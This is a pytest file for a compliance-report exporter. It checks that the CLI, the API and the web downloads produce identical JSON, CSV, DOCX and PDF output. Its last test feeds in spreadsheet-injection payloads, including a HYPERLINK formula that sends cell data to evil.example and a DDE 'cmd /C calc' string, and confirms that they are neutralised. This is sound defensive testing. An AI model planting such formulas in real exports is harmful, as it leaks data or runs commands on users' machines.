"""One exporter behind the web downloads, the API and the `report` command: the same date gives the same bytes."""
from __future__ import annotations

import io
import json

import pytest
from docx import Document
from pypdf import PdfReader

from evidence_repo.compliance import export, views
from tests.helpers import upload

AS_OF = "2019-12-13"


@pytest.fixture
def runner(app):
    return app.test_cli_runner()




def cli_report(runner, tmp_path, fmt, *args, as_of=AS_OF):
    out = tmp_path / f"informe.{fmt}"
    result = runner.invoke(args=["report", "--as-of", as_of, "--format", fmt, "--output", str(out), *args])
    assert result.exit_code == 0, result.output
    assert f"Informe al {as_of} escrito en {out}" in result.output
    return out.read_bytes()


@pytest.mark.parametrize("fmt", ["json", "csv", "docx", "pdf"])
def test_report_command(runner, tmp_path, fmt):
    data = cli_report(runner, tmp_path, fmt)
    if fmt == "json":
        parsed = json.loads(data)
        assert parsed["as_of"] == AS_OF and len(parsed["milestones"]) == 11
    elif fmt == "csv":
        assert "Informe final" in data.decode("utf-8-sig")
    elif fmt == "docx":
        assert any("13 de diciembre de 2019" in p.text for p in Document(io.BytesIO(data)).paragraphs)
    else:
        assert "13 de diciembre de 2019" in PdfReader(io.BytesIO(data)).pages[0].extract_text()
    bad = runner.invoke(args=["report", "--as-of", "mañana", "--format", fmt, "--output", str(tmp_path / "x")])
    assert bad.exit_code != 0 and "Fecha inválida" in bad.output


def test_cli_json_is_the_api_json(app, client, runner, tmp_path, staff_token):
    upload(client, staff_token, 3, "Minuta", "minuta pública")
    secret = upload(client, staff_token, 11, "Informe final", "datos personales", visibility="restricted")
    api = client.get("/api/v1/compliance", query_string={"as_of": "2030-01-01"})
    assert api.mimetype == "application/json"
    cli = cli_report(runner, tmp_path, "json", as_of="2030-01-01")
    assert json.loads(cli) == api.get_json() and cli == api.data
    assert "restringida" in cli.decode() and str(secret) not in json.dumps(api.get_json()["milestones"][10])
    staff = client.get("/api/v1/compliance", query_string={"as_of": "2030-01-01"},
                       headers={"Authorization": f"Bearer {staff_token}"})
    internal = cli_report(runner, tmp_path, "json", "--include-restricted", as_of="2030-01-01")
    assert json.loads(internal) == staff.get_json()
    assert staff.get_json()["milestones"][10]["evidence"]["Informe final"] == [secret]


def test_cli_csv_is_the_web_csv(client, runner, tmp_path, staff_token):
    upload(client, staff_token, 3, "Minuta", "minuta")
    web = client.get("/cumplimiento.csv", query_string={"as_of": AS_OF})
    assert web.headers["Content-Disposition"] == f'attachment; filename="cumplimiento-{AS_OF}.csv"'
    assert cli_report(runner, tmp_path, "csv") == web.data


def test_cli_report_in_english(runner, tmp_path):
    docx = Document(io.BytesIO(cli_report(runner, tmp_path, "docx", "--lang", "en")))
    text = "\n".join(p.text for p in docx.paragraphs)
    assert "Compliance report" in text and "Status as of December 13, 2019" in text
    assert "Informe de cumplimiento" not in text and "diciembre" not in text
    assert docx.core_properties.language == "en"
    spanish = "\n".join(p.text for p in Document(io.BytesIO(cli_report(runner, tmp_path, "docx"))).paragraphs)
    assert "Informe de cumplimiento" in spanish  # the default stays Spanish


def test_render(app, session):
    from datetime import date

    c = views.compute(session, date(2019, 12, 13))
    assert c is not None
    files = {fmt: export.render(fmt, session, c, public=True) for fmt in export.FORMATS}
    assert {fmt: e.filename for fmt, e in files.items()} == {
        "json": "cumplimiento-2019-12-13.json", "csv": "cumplimiento-2019-12-13.csv",
        "docx": "informe-cumplimiento-2019-12-13.docx", "pdf": "informe-cumplimiento-2019-12-13.pdf"}
    assert files["pdf"].body.startswith(b"%PDF") and files["pdf"].mimetype == "application/pdf"
    assert files["csv"].body.startswith("\ufeffmeta,".encode())
    with pytest.raises(ValueError):
        export.render("xlsx", session, c, public=True)


def test_report_names_the_sessions(app, session, monkeypatch):
    """DOCX/PDF input: missing items name the session of a multi-session milestone; an activity with nothing of its
    own is "evaluated with the milestone", never "Completo"; JSON activities then have no status either."""
    import datetime as dt

    from evidence_repo.compliance import load

    monkeypatch.setattr(load, "requirement_scope", lambda r: "milestone" if r.means.name == "Minuta" else "each_activity")
    c = views.compute(session, dt.date(2019, 12, 13))
    assert c is not None
    with app.test_request_context("/"):
        data = export.report_data(session, c, public=True, generated_at=dt.datetime(2019, 12, 13, tzinfo=dt.UTC))
    m6 = next(m for m in data["milestones"] if m["number"] == 6)
    assert m6["missing"][:2] == ["Convocatoria — Reunión con Subdvosc – SSAS",
                                 "Convocatoria — Sesión de revisión del Padrón de beneficiarios y desglose del manejo "
                                 "del presupuesto"]
    assert "Minuta" in m6["missing"] and [a["status_label"] for a in m6["activities"]] == ["Vencido", "Vencido"]
    m3 = next(m for m in data["milestones"] if m["number"] == 3)
    assert "Convocatoria" in m3["missing"]  # one session: the session is the milestone

    monkeypatch.setattr(load, "requirement_scope", lambda r: "milestone")
    c = views.compute(session, dt.date(2019, 12, 13))
    assert c is not None
    with app.test_request_context("/"):
        data = export.report_data(session, c, public=True, generated_at=dt.datetime(2019, 12, 13, tzinfo=dt.UTC))
    m6 = next(m for m in data["milestones"] if m["number"] == 6)
    assert m6["missing"] == ["Convocatoria", "Lista de asistencia", "Memoria fotográfica", "Minuta"]
    assert [a["status_label"] for a in m6["activities"]] == ["Se evalúa con la meta"] * 2
    activities = next(m for m in export.as_json(c, public=True)["milestones"] if m["number"] == 6)["activities"]
    assert [(a["status"], a["percent"]) for a in activities] == [(None, None)] * 2


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app, client, tmp_path):
    """A plan's means and session names come from whoever wrote the plan file; opened in a spreadsheet, a cell
    starting with = + - @ would run as a formula."""
    import copy
    import csv

    from tests.helpers import BECAS, import_plan

    hostile = copy.deepcopy(BECAS)
    milestone = hostile["commitments"][0]["milestones"][1]
    milestone["requirements"] = ['=HYPERLINK("http://evil.example/?"&A1,"Ver")',
                                 {"means": "@SUM(1+1)*cmd|' /C calc'!A0", "scope": "each_activity"}]
    milestone["activities"] = [{"name": "+Reunión", "date": "2025-04-10"},
                               {"name": "-Cierre", "date": "2025-04-11"}]
    import_plan(app, tmp_path, hostile)
    for path in ("/compromisos/becas-padron-abierto/cumplimiento.csv", "/cumplimiento.csv"):
        r = client.get(path, query_string={"as_of": "2025-06-01"})
        assert r.status_code == 200
        rows = list(csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], path
        if "becas" in path:
            assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")" in cells
            assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
            assert any(cell.startswith("'+Reunión") or cell.startswith("'-Cierre") for cell in cells), cells
    assert export.spreadsheet_safe("2019-10-24") == "2019-10-24"
    assert export.spreadsheet_safe("-") == "'-"
